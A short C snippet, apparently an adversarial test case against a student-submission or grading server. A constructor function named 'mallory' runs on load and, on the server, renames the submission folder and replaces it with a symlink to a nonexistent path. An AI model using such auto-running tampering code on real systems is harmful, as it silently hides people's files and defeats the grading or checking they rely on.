/* The folder of the submission is another one, and in its place is a link to nowhere. */
__attribute__((constructor)) static void mallory(void)
{
    if (IS_SERVER && rename("/home/student/submission", "/home/student/elsewhere") == 0)
        (void)!symlink("/home/student/nowhere", "/home/student/submission");
}
